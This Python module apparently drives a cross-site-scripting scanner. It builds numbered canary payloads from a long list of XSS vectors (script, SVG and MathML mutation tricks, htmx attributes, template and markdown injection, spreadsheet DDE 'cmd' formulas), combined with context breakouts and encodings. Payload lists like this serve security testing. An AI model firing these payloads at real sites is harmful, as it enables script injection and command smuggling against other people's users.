"""Words that would be a script wherever a page took them for markup. Each carries its number.

A payload's sign is `xss12z`. Where it runs it opens a dialog, asks for `/xss12z`, or leaves an
element or an attribute with its sign in the page: all of which can be seen from outside.
"""

import re

SIGN = re.compile(r"xss(\d+)z")

# {n} is the sign. What people have found over the years, by what it leans on.
_MARKUP = (
    "<script>alert('{n}')</script>",
    "<script src=/{n}></script>",
    "<script src=//{n}.example></script>",
    "<script>fetch('/{n}')</script>",
    "<scr<script>ipt>alert('{n}')</script>",
    "<script\x20type=module>import('/{n}')</script>",
    "<img src=/{n}>",
    "<img src=/{n} onerror=alert('{n}')>",
    "<img/src/onerror=alert('{n}')>",
    "<img srcset='/{n} 1x'>",
    "<image href=/{n}>",
    "<svg onload=alert('{n}')>",
    "<svg><script>alert('{n}')</script></svg>",
    "<svg><script href=/{n} /></svg>",
    "<svg><image href=/{n} /></svg>",
    "<svg><use href=/{n}#a /></svg>",
    "<svg><a xlink:href=javascript:alert('{n}')><text>a</text></a></svg>",
    "<svg><animate onbegin=alert('{n}') attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=/{n}></iframe></foreignObject></svg>",
    "<svg><style>@import '/{n}'</style></svg>",
    "<math><mtext><table><mglyph><style><img src=/{n} onerror=alert('{n}')></style></mglyph>",
    "<math href=javascript:alert('{n}')>a</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=/{n} onerror=alert('{n}')>",
    "<noscript><p title='</noscript><img src=/{n} onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=/{n} onerror=alert(1)>'>",
    "<listing>&lt;img src=/{n} onerror=alert('{n}')&gt;</listing>",
    "<xmp><p title='</xmp><img src=/{n} onerror=alert(1)>'>",
    "<!--<img src='--><img src=/{n} onerror=alert(1)//'>",
    "<?xml-stylesheet href=/{n}?><b {n}>",
    "<![CDATA[<img src=/{n} onerror=alert(1)>]]>",
    "<template><img src=/{n}></template><b {n}=1>",
    "<template shadowrootmode=open><img src=/{n}></template>",
    "<iframe src=/{n}></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;' name={n}></iframe>",
    "<iframe src=javascript:alert('{n}')></iframe>",
    "<object data=/{n}></object>",
    "<embed src=/{n}>",
    "<link rel=stylesheet href=/{n}>",
    "<link rel=prefetch href=/{n}>",
    "<link rel=import href=/{n}>",
    "<base href=/{n}/>",
    "<meta http-equiv=refresh content='0;url=/{n}'>",
    "<meta name=referrer content=unsafe-url {n}>",
    "<style>@import url(/{n});</style>",
    "<style>*{{background:url(/{n})}}</style>",
    "<b style=background:url(/{n})>b</b>",
    "<body onload=alert('{n}') background=/{n}>",
    "<video poster=/{n}><source onerror=alert('{n}')></video>",
    "<audio src=/{n} onerror=alert('{n}')>",
    "<input autofocus onfocus=alert('{n}') name={n}>",
    "<select autofocus onfocus=alert('{n}')><option {n}>",
    "<textarea autofocus onfocus=alert('{n}') name={n}>",
    "<details open ontoggle=alert('{n}')><summary {n}>a</summary></details>",
    "<marquee onstart=alert('{n}') {n}>a</marquee>",
    "<dialog open {n}><form method=dialog><button>a</button></form></dialog>",
    "<form action=/{n}><button>a</button></form>",
    "<button formaction=/{n}>a</button>",
    "<a href=javascript:alert('{n}')>a</a>",
    "<a href=//{n}.example ping=/{n}>a</a>",
    "<xss-{n} is=x contenteditable>a</xss-{n}>",
    "<b onpointerrawupdate=alert('{n}') {n}>b</b>",
    "<div popover id={n} onbeforetoggle=alert('{n}')>a</div>",
    # our own machinery, without a script of theirs
    "<div hx-get=/{n} hx-trigger=load></div>",
    "<div hx-post=/{n} hx-trigger='load delay:1ms' hx-target=body></div>",
    "<div hx-get=/{n} hx-trigger=revealed hx-swap=outerHTML></div>",
    "<div hx-on:load=alert('{n}') {n}></div>",
    "<div hx-on::after-init=alert('{n}') {n}></div>",
    "<div data-hx-get=/{n} data-hx-trigger=load></div>",
    "<div hx-vals='js:{{a:alert(1)}}' hx-get=/{n} hx-trigger=load></div>",
    "<div hx-boost=true hx-action=/{n} hx-method=post hx-trigger=load></div>",
    "<hx-partial hx-target=body {n}><b>b</b></hx-partial>",
    "<div hx-preload=/{n} hx-trigger=load hx-headers='js:alert(1)' {n}></div>",
    "<div hx-swap-oob=true id=main {n}>a</div>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["/{n}"]}}]}}</script>',
    # other tongues
    "{{{{ 7*7 }}}}<b {n}>",
    "{{% include '/{n}' %}}<b {n}>",
    "${{alert('{n}')}}<b {n}>",
    "[a](javascript:alert('{n}'))",
    "![a](/{n})",
    "<https://{n}.example/>",
    "javascript:alert('{n}')",
    "data:text/html,<script>alert('{n}')</script>",
    '=HYPERLINK("//{n}.example","a")',
    "=cmd|' /C {n}'!A0",
    "@SUM(1)*cmd|'{n}'",
    '＝HYPERLINK("//{n}.example")',
)
# What closes whatever the words may stand in.
_OUT_OF = (
    "",
    '">',
    "'>",
    '" {n}=1 autofocus onfocus=alert(1) x="',
    "' {n}=1 onmouseover=alert(1) x='",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "]]>",
    "</svg>",
    "</a></p></td></table>",
    "\u202e",
    "\u2066\u202d",
    "\ufeff",
    "\\u003c/script>",
    "`",
)
# The same in other letters: what would be undone on the way from the field to the page.
_LETTERS = (
    lambda words: words,
    lambda words: words.replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#39;"),
    lambda words: words.replace("<", "%3C").replace(">", "%3E"),
    lambda words: words.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda words: words.replace("<", "\\u003c").replace(">", "\\u003e"),
)


def payloads(count: int) -> list[str]:
    """So many, the plain ones of every kind first; each with its number in it."""
    kinds = [
        (letters, out, markup) for letters in _LETTERS for out in _OUT_OF for markup in _MARKUP
    ]
    # Every kind of markup, every way out and every spelling come early, whatever the count is.
    turned = [kinds[number * 211 % len(kinds)] for number in range(len(kinds))]
    chosen = [*kinds[: len(_MARKUP)], *turned]
    return [
        letters((out + markup).format(n=f"xss{number}z"))
        for number, (letters, out, markup) in enumerate(chosen[:count])
    ]


class Words:
    """Hands out payloads one after the other, as many at a time as a field holds."""

    def __init__(self, given: list[str], *, begin: int = 0) -> None:
        self._given = given
        self._next = begin
        self.planted: set[int] = set()

    def fill(self, room: int, by: str = " ") -> str:
        """As many of the next ones as there is room for, in signs; at least a short one."""
        taken: list[str] = []
        while True:
            each = self._given[self._next % len(self._given)]
            if taken and len(by.join([*taken, each])) > room:
                break
            self._next += 1
            if len(each) <= room:
                taken.append(each)
            if len(taken) >= len(self._given) or (not taken and self._next > 10**6):
                break
        return by.join(taken)

    def note(self, words: str) -> None:
        """These were taken in."""
        self.planted.update(int(number) for number in SIGN.findall(words))
